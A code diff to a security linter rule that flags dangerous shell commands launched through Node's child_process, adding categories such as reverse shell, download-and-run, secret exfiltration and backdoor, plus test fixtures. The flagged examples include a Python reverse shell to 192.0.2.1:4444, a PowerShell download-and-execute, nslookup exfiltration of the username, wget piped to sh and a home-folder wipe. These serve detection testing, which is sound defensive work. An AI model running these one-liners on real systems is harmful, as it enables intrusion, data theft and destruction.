@@ -1,8 +1,13 @@
 import { defineRule, step } from '../src/define.js';
+import type { ShellCommand } from '../src/types.js';
 import { deedsOf } from '../src/vocabulary/deeds.js';
+import { oddAddress } from '../src/vocabulary/services.js';
 
-/** What a command line in code may do without being told on: build tools contact servers and run in the background. */
-const QUIET = new Set(['contact', 'hidden-start', 'inline-code']);
+/**
+ * What a command line in code may do without being told on: build tools contact servers and run in the background,
+ * and what opens a browser encodes its words for PowerShell. What was encoded is judged all the same.
+ */
+const QUIET = new Set(['contact', 'hidden-start', 'inline-code', 'installs', 'upload', 'encoded']);
 
 export default defineRule({
   meta: {
@@ -12,20 +17,32 @@ export default defineRule({
     messages: {
       'reverse-shell': 'Opens a shell to another machine: {command}',
       'download-run': 'Downloads a program and runs it: {command}',
+      'download-program': 'Downloads a program and runs it: {command}',
+      secret: 'Sends a secret of the environment from the shell: {command}',
       exfiltrate: 'Sends facts about the machine from the shell: {command}',
       credentials: 'Hands the shell a command that {says}: {command}',
-      destroy: 'Destroys or halts the machine: {command}',
+      destroy: 'Destroys what lies on the machine: {command}',
+      halt: 'Halts the machine: {command}',
+      backdoor: 'Lets somebody else in: {command}',
+      disarm: 'Switches off what protects the machine: {command}',
+      agent: 'Has a coding agent do what it likes: {command}',
       mine: 'Mines cryptocurrency: {command}',
       persist: 'Makes something start again and again: {command}',
       executable: 'Starts a program: {command}',
       'odd-contact': 'Hands the shell a command that {says}: {command}',
     },
     bits: {
-      'reverse-shell': 13,
+      'reverse-shell': 13.5,
       'download-run': 11,
-      exfiltrate: 10,
+      'download-program': 13.5,
+      secret: 5,
+      exfiltrate: 12.5,
       credentials: 5,
-      destroy: 10,
+      destroy: 12,
+      halt: 3,
+      backdoor: 8,
+      disarm: 7,
+      agent: 3,
       mine: 11,
       persist: 5,
       executable: 3,
@@ -42,11 +59,31 @@ export default defineRule({
         title: 'a script is piped into a shell',
         code: `const { execSync } = require('child_process');\nconst url = 'https://stage.invalid/x';\nexecSync('wget -qO- ' + url + ' | sh');`,
       },
+      {
+        title: 'PowerShell is told to',
+        code: `const { exec } = require('child_process');\nexec('powershell -Command "Invoke-WebRequest https://stage.invalid/p.exe -OutFile p.exe; Start-Process p.exe"');`,
+      },
+      {
+        title: 'Python opens the shell',
+        code: `require('child_process').spawn('python3', ['-c', "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"]);`,
+      },
+      {
+        title: 'who it is leaves as a host name',
+        code: `require('child_process').exec('nslookup $(whoami).collect.invalid');`,
+      },
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
       { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
       { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
+      {
+        title: 'a release for this system is fetched with a token',
+        code: `require('child_process').execSync('curl -H "Authorization: Bearer $TOKEN" -L https://a.invalid/tool-$(uname -s).tgz | tar xz');`,
+      },
+      {
+        title: 'an answer is formatted',
+        code: `require('child_process').execSync('curl -s https://a.invalid/state.json | python -m json.tool');`,
+      },
       { title: 'the registry is asked', code: `require('child_process').execSync('npm view left-pad version');` },
     ],
   },
@@ -54,13 +91,21 @@ export default defineRule({
     for (const call of context.calls('process')) {
       const [program, list] = call.args;
       if (!program) continue;
-      const [worst] = deedsOf(context.commandsOf(program, list)).filter(({ deed }) => !QUIET.has(deed));
+      const commands = context.commandsOf(program, list);
+      const [worst] = deedsOf(commands).filter(({ deed }) => !QUIET.has(deed));
       if (!worst) continue;
       context.report({
-        messageId: worst.deed,
+        messageId: worst.deed === 'download-run' && isProgram(commands) ? 'download-program' : worst.deed,
         data: { says: worst.says, command: worst.command.text },
         chain: [step('sink', `${worst.says} through ${call.name}`, context.file, call.node)],
       });
     }
   },
 });
+
+/** Tools have a shell run somebody's installer; a Windows program, or a host without a name, is not that. */
+function isProgram(commands: readonly ShellCommand[]): boolean {
+  return commands.some(({ words }) =>
+    words.some(word => /\w\.(?:exe|scr|bat|vbs|hta)(?:[?#].*)?$/i.test(word) || oddAddress(word) !== undefined),
+  );
+}
